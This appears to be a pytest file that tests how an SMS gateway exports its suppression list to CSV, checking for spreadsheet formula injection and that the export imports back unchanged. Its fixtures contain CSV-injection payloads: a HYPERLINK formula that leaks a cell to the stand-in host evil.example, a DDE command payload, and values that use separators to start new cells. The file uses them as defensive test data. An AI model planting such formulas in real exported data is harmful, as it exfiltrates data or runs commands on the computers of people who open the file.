"""The suppression export is safe to open in a spreadsheet, and imports back unchanged (issue 11 item 7)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from flask import Flask
from flask.testing import FlaskClient

from gateway.api import csv_rows
from storage import lists
from tests.conftest import API_TOKEN

AUTH = {"Authorization": f"Bearer {API_TOKEN}"}
CSV = {**AUTH, "Content-Type": "text/csv"}
SENDER = "+18005550199"
# What a spreadsheet reads as the start of a formula (OWASP's list), and our own quote prefix.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
E164 = re.compile(r"\+[0-9]{1,15}")
COLUMNS = ["number", "sender", "topic", "until", "source", "since"]
HOSTILE_TOPICS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    '=1+2";=1+2',  # OWASP's examples: a quote and a separator to start a new cell
    "=1+2'\" ;,=1+2",
    "a;=1+2",
    "a,=1+2",
    "+123",  # E.164-shaped: stays as it is, and still round-trips
    "plain",
]
# Through the staff API a topic is kept exactly: outer spaces, a leading quote (an import reads a cell's
# leading quote as the export's prefix, and strips other cells).
API_TOPICS = [" =1+2", "trailing ", "  ", "'quoted", "''twice", "'", "'=already quoted"]
HOSTILE_SENDERS = ["-1+1 Sale", "-Shop", "A-B+C", SENDER]


def _import(client: FlaskClient, rows: list[tuple[str, str, str]]) -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(("number", "sender", "topic"))
    writer.writerows(rows)
    answer = client.post("/api/v1/imports", data=buffer.getvalue().encode(), headers=CSV)
    assert answer.status_code == 201, answer.data


def _stored(app: Flask) -> set[tuple[str, str, str]]:
    with app.extensions["gateway.database"].read() as connection:
        return {(number, scope, topic) for number, scope, topic, *_ in lists.export(connection)}


@pytest.fixture
def hostile(app: Flask, client: FlaskClient) -> set[tuple[str, str, str]]:
    """Suppressions with a hostile value in every free-text column (sender id and topic), by import and API."""
    rows = [(f"+1415555{index:04d}", sender, topic)
            for index, (sender, topic) in enumerate((s, t) for s in HOSTILE_SENDERS for t in HOSTILE_TOPICS)]
    _import(client, rows)
    for index, topic in enumerate(API_TOPICS):
        answer = client.post("/api/v1/suppressions", json={
            "number": f"+1415556{index:04d}", "sender": "-1+1 Sale", "topic": topic, "reason": "test"}, headers=AUTH)
        assert answer.status_code == 201, answer.data
    stored = _stored(app)
    assert {topic for _, _, topic in stored} >= set(HOSTILE_TOPICS) | set(API_TOPICS)
    return stored


def test_no_exported_cell_starts_a_formula(client: FlaskClient, hostile: set[tuple[str, str, str]]) -> None:
    text = client.get("/api/v1/export/suppressions.csv", headers=AUTH).data.decode()
    exported = list(csv.reader(io.StringIO(text)))
    assert exported[0] == COLUMNS
    for cell in (cell for row in exported[1:] for cell in row):
        assert E164.fullmatch(cell) or not cell.startswith(TRIGGERS), cell
    assert all(E164.fullmatch(row[0]) for row in exported[1:]), "numbers stay as they are"
    assert {row[1] for row in exported[1:]} == {SENDER, "'-1+1 Sale", "'-Shop", "A-B+C"}
    # OWASP: every field in double quotes (inner ones doubled), so a ',' or ';' in a value starts no cell.
    rewritten = io.StringIO()
    csv.writer(rewritten, quoting=csv.QUOTE_ALL).writerows(exported)
    assert text == rewritten.getvalue()


def test_an_export_imports_back_unchanged(app: Flask, client: FlaskClient, hostile: set[tuple[str, str, str]]) -> None:
    exported = client.get("/api/v1/export/suppressions.csv", headers=AUTH).data
    read_back = csv_rows.import_rows(io.BytesIO(exported), "US", None, "*")
    assert {(row.number, row.scope, row.topic) for row in read_back} == hostile
    again = client.post("/api/v1/imports", data=exported, headers=CSV)
    assert again.status_code == 201, again.data
    assert (again.json["added"], again.json["already"]) == (0, len(hostile)), "every row found as it was stored"
    assert _stored(app) == hostile
    assert client.get("/api/v1/export/suppressions.csv", headers=AUTH).data == exported


CELLS = [
    ("formula", "=1+2", "'=1+2"),
    ("plus-text", "+SUM(1)", "'+SUM(1)"),
    ("e164", "+14155550100", "+14155550100"),
    ("plus-only", "+", "'+"),
    ("minus", "-1", "'-1"),
    ("at", "@x", "'@x"),
    ("tab", "\tx", "'\tx"),
    ("cr", "\rx", "'\rx"),
    ("lf", "\nx", "'\nx"),
    ("quote", "'x", "''x"),
    ("outer-space", " x ", "' x "),
    ("empty", "", ""),
    ("plain", "promos", "promos"),
    ("inner-formula", "a=1", "a=1"),
]


@pytest.mark.parametrize(("value", "cell"), [c[1:] for c in CELLS], ids=[c[0] for c in CELLS])
def test_the_cell_rule_and_its_inverse(value: str, cell: str) -> None:
    assert csv_rows.export_cell(value) == cell
    assert csv_rows.read_cell(cell) == value
